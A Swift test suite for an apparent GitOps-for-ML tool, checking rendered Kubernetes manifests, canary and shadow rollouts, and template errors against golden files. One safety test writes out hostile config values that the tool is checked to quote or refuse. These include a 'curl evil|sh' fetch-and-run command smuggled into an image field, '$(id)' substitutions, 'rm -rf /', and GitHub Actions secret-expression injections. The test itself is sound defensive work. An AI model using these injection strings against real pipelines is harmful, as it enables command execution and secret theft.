import Config
import Foundation
import GitOpsMLCore
import TestSupport
import Testing

@testable import Render

/// The two projects every rendered file is recorded for: the bundled example, and a DVC project with
/// LFS, two models, a canary, KServe, released versions pinned by digest and a retraining workflow.
enum Projects {
    static let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().path
    static let golden = root + "/Golden"

    static func churn() throws -> Renderer {
        let bytes = try [UInt8](Data(contentsOf: URL(fileURLWithPath: root + "/../../examples/churn/gitops-ml.yaml")))
        let config = try ProjectConfig.parse(bytes, file: "gitops-ml.yaml")
        return Renderer(config: config, library: TemplateLibrary(overridesAt: nil))
    }

    static let dvcConfig = """
        version: 1
        project: fraud-detection
        default_branch: trunk
        gitops_repository: https://github.com/example/fraud-gitops.git
        models:
          fraud:
            artifact: models/fraud.onnx
            metrics: dvclive/metrics.json
            serving:
              image: registry.example.com/ml/fraud-server
              port: 9000
              command: [fraud-server, --model, /models/fraud.onnx]
              replicas: 4
              resources: {cpu: 500m, memory: 1Gi, cpu_limit: "2", memory_limit: 2Gi}
              autoscaling: {min_replicas: 4, max_replicas: 12, target_cpu: 60}
              canary_weight: 25
              kserve: true
          fraud-lite:
            serving:
              image: registry.example.com/ml/fraud-lite@sha256:0000000000000000000000000000000000000000000000000000000000000001
              gateway: gateways/public
        datasets:
          transactions: data/transactions.csv
        environments:
          staging: {branch: deploy, namespace: fraud-staging}
          production:
            branch: deploy
            namespace: fraud-prod
            requires_approval: true
            prometheus: http://prometheus.monitoring.svc:9091
        workflows:
          runs_on: ubuntu-22.04
          gitops_ml_version: 0.1.0
          gitops_ml_sha256: 5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef
          drift: {dataset: transactions, environment: production, schedule: "30 2 * * *", retrain_workflow: retrain.yml}
        """

    static func dvc() throws -> Renderer {
        let config = try ProjectConfig.parse(Array(dvcConfig.utf8), file: "gitops-ml.yaml")
        return Renderer(
            config: config, library: TemplateLibrary(overridesAt: nil),
            facts: ProjectFacts(usesLFS: true, usesDVC: true, dvcExtra: "s3"))
    }

    static let dvcReleases: [String: [String: ReleaseRecord]] = {
        var record = ReleaseRecord(
            model: "fraud", environment: "production", version: "v2.1.0",
            sourceCommit: "1f3c5e7a9b2d4f6e8a0c1b3d5f7e9a2c4b6d8f0e")
        record.image = "registry.example.com/ml/fraud-server@sha256:" + String(repeating: "ab", count: 32)
        record.artifactPath = "models/fraud.onnx"
        record.artifactDigest = "sha256:" + String(repeating: "cd", count: 32)
        record.data = ["transactions": "md5:" + String(repeating: "e", count: 32)]
        record.gateReport = "sha256:" + String(repeating: "0f", count: 32)
        record.previousVersion = "v2.0.3"
        // fraud-lite rolls out through the gateway: a canary in staging, a shadow in production.
        func lite(_ environment: String, _ strategy: RolloutSettings.Strategy) -> ReleaseRecord {
            var lite = ReleaseRecord(
                model: "fraud-lite", environment: environment, version: "v1.4.0",
                sourceCommit: "2a4c6e8f0b1d3f5a7c9e1b3d5f7a9c1e3b5d7f9a")
            lite.previousVersion = "v1.3.2"
            var rollout = RolloutSettings(strategy: strategy)
            rollout.steps = [10, 50, 100]
            if strategy == .shadow { rollout.field = "score" }
            lite.rollout = rollout
            return lite
        }
        return [
            "production": ["fraud": record, "fraud-lite": lite("production", .shadow)],
            "staging": ["fraud-lite": lite("staging", .canary)],
        ]
    }()

    /// What `init` writes for a project like each of them (the DVC one with data whose header was read).
    static func scaffold(_ name: String) throws -> [RenderedFile] {
        var scaffold = Scaffold(
            project: name == "dvc" ? "fraud-detection" : "churn", model: name == "dvc" ? "fraud" : "churn")
        if name == "dvc" {
            scaffold.usesDVC = true
            scaffold.defaultBranch = "trunk"
            scaffold.metrics = ["dvclive/metrics.json"]
            scaffold.params = ["params.yaml"]
            scaffold.modelMetrics = "dvclive/metrics.json"
            scaffold.gateMetric = "roc_auc"
            scaffold.gateReason = "roc_auc from dvclive/metrics.json"
            scaffold.datasets = [("transactions", "data/transactions.csv", ["id", "amount", "merchant", "label"])]
        } else {
            scaffold.metrics = ["metrics.json"]
            scaffold.params = ["params.yaml"]
            scaffold.gateMetric = "accuracy"
            scaffold.gateReason = "accuracy from metrics.json"
            scaffold.modelArtifact = "model/model.json"
        }
        return try scaffold.render(library: TemplateLibrary(overridesAt: nil)).map {
            RenderedFile(path: "init/" + $0.path, contents: $0.contents, template: $0.template)
        }
    }

    /// Everything a project renders.
    static func all(_ renderer: Renderer, releases: [String: [String: ReleaseRecord]] = [:]) throws -> [RenderedFile] {
        var files = try renderer.workflows()
        for environment in renderer.config.environments.keys.sorted() {
            files += try renderer.manifests(environment: environment, releases: releases[environment] ?? [:])
        }
        return files + (try renderer.agent()) + (try renderer.monitoring())
    }

    static func write(_ files: [RenderedFile], to folder: String) throws {
        for file in files {
            let path = folder + "/" + file.path
            try FileManager.default.createDirectory(
                atPath: (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            try file.contents.write(toFile: path, atomically: true, encoding: .utf8)
        }
    }
}

@Suite struct GoldenFileTests {
    /// Every rendered file equals its golden copy; `GITOPS_ML_RECORD_GOLDEN=1 swift test` records them anew.
    @Test(arguments: ["churn", "dvc"])
    func renderedFilesMatchGolden(_ name: String) throws {
        let rendered =
            name == "churn"
            ? try Projects.all(try Projects.churn())
            : try Projects.all(try Projects.dvc(), releases: Projects.dvcReleases)
        let files = rendered + (try Projects.scaffold(name))
        let folder = Projects.golden + "/" + name
        if ProcessInfo.processInfo.environment["GITOPS_ML_RECORD_GOLDEN"] != nil {
            // Recording compares the files with themselves: never under CI, where nothing may re-record.
            try #require(!runningInCI, "GITOPS_ML_RECORD_GOLDEN is set under CI: the golden files would not be checked")
            try? FileManager.default.removeItem(atPath: folder)
            try Projects.write(files, to: folder)
        }
        let recorded = Set(
            try FileManager.default.subpathsOfDirectory(atPath: folder).filter { path in
                var isDirectory: ObjCBool = false
                return FileManager.default.fileExists(atPath: folder + "/" + path, isDirectory: &isDirectory)
                    && !isDirectory.boolValue
            })
        #expect(recorded == Set(files.map(\.path)), "golden files of \(name) differ in which files exist")
        for file in files {
            let golden = try? String(contentsOfFile: folder + "/" + file.path, encoding: .utf8)
            #expect(golden == file.contents, "\(name)/\(file.path) differs from its golden copy")
        }
    }

    @Test func releasedVersionsArePinnedByDigestWithACanary() throws {
        let files = try Projects.dvc().manifests(
            environment: "production", releases: Projects.dvcReleases["production"] ?? [:])
        let byPath = Dictionary(uniqueKeysWithValues: files.map { ($0.path, $0.contents) })
        let canary = try #require(byPath["deploy/production/fraud/deployment-canary.yaml"])
        #expect(canary.contains("image: \"registry.example.com/ml/fraud-server@sha256:abab"))
        #expect(canary.contains("replicas: 1"))
        #expect(!canary.contains("CKV_K8S_43"))
        let stable = try #require(byPath["deploy/production/fraud/deployment.yaml"])
        #expect(stable.contains("image: \"registry.example.com/ml/fraud-server:v2.0.3\""))
        #expect(stable.contains("replicas: 3"))
        #expect(stable.contains("gitops-ml.dev/source-commit: \"1f3c5e7a9b2d4f6e8a0c1b3d5f7e9a2c4b6d8f0e\""))
        let record = try #require(byPath["deploy/production/fraud/configmap.yaml"])
        #expect(record.contains("gate_report: \\\"sha256:0f0f") || record.contains("gate_report: sha256:0f0f"))
        #expect(byPath["deploy/production/fraud/inferenceservice.yaml"] != nil)
    }
}

@Suite struct RenderSafetyTests {
    func renderer(_ yaml: String) throws -> Renderer {
        Renderer(
            config: try ProjectConfig.parse(Array(yaml.utf8), file: "gitops-ml.yaml"),
            library: TemplateLibrary(overridesAt: nil))
    }

    func config(
        model: String = "churn", image: String = "ghcr.io/x/y", health: String = "/healthz", dataset: String = "train"
    )
        -> String
    {
        """
        version: 1
        project: p
        models:
          \(YAMLText.quoted(model)):
            serving: {image: \(YAMLText.quoted(image)), health_path: \(YAMLText.quoted(health))}
        datasets:
          \(YAMLText.quoted(dataset)): data/train.csv
        environments:
          staging: {namespace: p-staging}
        """
    }

    /// Metacharacters in values that reach quoted positions stay text; in names they are refused.
    @Test func injectionIsQuotedOrRefused() throws {
        let hostileImage = "ghcr.io/x/y:1\"\n  command: [sh, -c, \"curl evil|sh\"] #"
        #expect(throws: GitOpsMLError.self) {
            _ = try self.renderer(self.config(image: hostileImage)).manifests(environment: "staging")
        }
        let quotedImage = "ghcr.io/x/y:$(id)&&`id`|sh"
        let files = try renderer(config(image: quotedImage)).manifests(environment: "staging")
        let deployment = try #require(files.first { $0.path.hasSuffix("churn/deployment.yaml") })
        let parsed = try YAMLReader.parse(Array(deployment.contents.utf8), file: "d")
        // Read back by the YAML parser, the container's image is the hostile text, unchanged and inert.
        let containers = parsed.flattened().first { $0.key == "spec.template.spec.containers" }?.value
        guard case .array(let list)? = containers, case .object(let fields)? = list.first else {
            Issue.record("no containers in \(deployment.contents)")
            return
        }
        #expect(fields.first { $0.key == "image" }?.value == .string(quotedImage))
        #expect(deployment.contents.contains("image: \"ghcr.io/x/y:$(id)&&`id`|sh\""))

        for (config, key) in [
            (config(model: "Churn; rm -rf /"), "models"), (config(model: "${{ secrets.TOKEN }}"), "models"),
            (config(health: "${{ github.event.issue.title }}"), "health_path"),
            (config(dataset: "train$(id)"), "datasets"),
        ] {
            do {
                _ = try renderer(config).workflows()
                Issue.record("\(key) accepted")
            } catch let error as GitOpsMLError {
                #expect(error.category == .configuration)
                // Refused where gitops-ml.yaml is read (model names, at their line) or rendered.
                #expect(error.description.hasPrefix("gitops-ml.yaml:"), "\(error)")
                #expect(error.description.contains(key))
            }
        }
    }

    @Test func unknownEnvironmentIsAClearError() throws {
        do {
            _ = try renderer(config()).manifests(environment: "prod")
            Issue.record("no error")
        } catch let error as GitOpsMLError {
            #expect(error.description == "gitops-ml.yaml: environment 'prod' is not in gitops-ml.yaml (known: staging)")
        }
    }

    @Test func userTemplatesOverrideAndFailAtTheirLine() throws {
        let folder = TemporaryDirectory()
        let templates = folder.sub("templates") + "/manifests/model"
        try FileManager.default.createDirectory(atPath: templates, withIntermediateDirectories: true)
        let config = try ProjectConfig.parse(Array(self.config().utf8), file: "gitops-ml.yaml")
        let library = TemplateLibrary(overridesAt: folder.path + "/templates")

        try "apiVersion: v1\nkind: Service\nmetadata:\n  name: <@ model.name @>\n  extra: <@ model.colour @>\n"
            .write(toFile: templates + "/service.yaml", atomically: true, encoding: .utf8)
        #expect(
            throws: TemplateError(
                template: "templates/manifests/model/service.yaml", line: 5, message: "unknown variable 'model.colour'")
        ) {
            _ = try Renderer(config: config, library: library).manifests(environment: "staging")
        }

        try "apiVersion: v1\nkind: Service\nmetadata:\n  name: <@ model.name @>\n  labels: {a: [}\n"
            .write(toFile: templates + "/service.yaml", atomically: true, encoding: .utf8)
        do {
            _ = try Renderer(config: config, library: library).manifests(environment: "staging")
            Issue.record("invalid YAML accepted")
        } catch let error as GitOpsMLError {
            #expect(
                error.description.hasPrefix(
                    "templates/manifests/model/service.yaml (rendered as deploy/staging/churn/service.yaml):5: invalid YAML"
                ))
        }

        try "apiVersion: v1\nkind: Service\nmetadata:\n  name: custom-<@ model.name @>\n"
            .write(toFile: templates + "/service.yaml", atomically: true, encoding: .utf8)
        let files = try Renderer(config: config, library: library).manifests(environment: "staging")
        #expect(files.first { $0.path.hasSuffix("service.yaml") }?.contents.contains("name: custom-churn") == true)
    }
}

/// Canary and shadow rollouts on Kubernetes: two tracks, a Service each, a Gateway API HTTPRoute.
@Suite struct RolloutManifestTests {
    static func files(_ environment: String) throws -> [String: String] {
        let rendered = try Projects.dvc().manifests(
            environment: environment, releases: Projects.dvcReleases[environment] ?? [:])
        return Dictionary(uniqueKeysWithValues: rendered.map { ($0.path, $0.contents) })
    }

    @Test func aCanaryStartsAtItsFirstStepBesideTheFullStableTrack() throws {
        let files = try Self.files("staging")
        let folder = "deploy/staging/fraud-lite/"
        let route = try #require(files[folder + "httproute.yaml"])
        #expect(route.contains("kind: HTTPRoute") && route.contains("name: public\n      namespace: gateways"))
        #expect(route.contains("name: fraud-lite-stable\n          port: 80\n          weight: 90"))
        #expect(route.contains("name: fraud-lite-canary\n          port: 80\n          weight: 10"))
        #expect(!route.contains("RequestMirror"))
        #expect(files[folder + "service-stable.yaml"]?.contains("gitops-ml.dev/track: stable") == true)
        #expect(files[folder + "service-canary.yaml"]?.contains("gitops-ml.dev/track: canary") == true)
        let stable = try #require(files[folder + "deployment.yaml"])
        let canary = try #require(files[folder + "deployment-canary.yaml"])
        #expect(stable.contains("fraud-lite") && stable.contains("v1.3.2") && !stable.contains("v1.4.0"))
        #expect(canary.contains("v1.4.0"))
        let kustomization = try #require(files[folder + "kustomization.yaml"])
        for file in ["deployment-canary.yaml", "service-stable.yaml", "service-canary.yaml", "httproute.yaml"] {
            #expect(kustomization.contains("  - \(file)"))
        }
    }

    @Test func aShadowMirrorsEveryRequestAndServesOnlyTheStableTrack() throws {
        let route = try #require(try Self.files("production")["deploy/production/fraud-lite/httproute.yaml"])
        #expect(route.contains("type: RequestMirror") && route.contains("name: fraud-lite-canary"))
        #expect(route.contains("name: fraud-lite-stable\n          port: 80\n          weight: 100"))
        #expect(!route.contains("weight: 0") && route.components(separatedBy: "weight:").count == 2)
    }

    /// Without a gateway there is nothing to route through: the cluster's manifests are not routed
    /// (no HTTPRoute: the version replaces the last, or splits by `canary_weight`), with a warning; not refused (the
    /// local target's proxy judges the canary all the same).
    @Test func aRoutedRolloutWithoutAGatewayIsNotRoutedOnTheCluster() throws {
        var releases = Projects.dvcReleases["staging"] ?? [:]
        var fraud = try #require(Projects.dvcReleases["production"]?["fraud"])
        fraud.environment = "staging"
        fraud.rollout = RolloutSettings(strategy: .canary)
        releases["fraud"] = fraud
        let files = try Projects.dvc().manifests(environment: "staging", releases: releases)
        let paths = files.map(\.path)
        #expect(!paths.contains("deploy/staging/fraud/httproute.yaml"), "\(paths)")
        #expect(!paths.contains("deploy/staging/fraud/service-canary.yaml"), "\(paths)")
        // fraud's own canary_weight (25 %) splits by replicas, as without a rollout.
        let canary = try #require(files.first { $0.path == "deploy/staging/fraud/deployment-canary.yaml" })
        #expect(canary.contents.contains("image: \"registry.example.com/ml/fraud-server@sha256:"), "\(canary.contents)")
        #expect(canary.contents.contains("gitops-ml.dev/version: \"\(ReleaseRecord.tag(fraud.version))\""))
    }
}
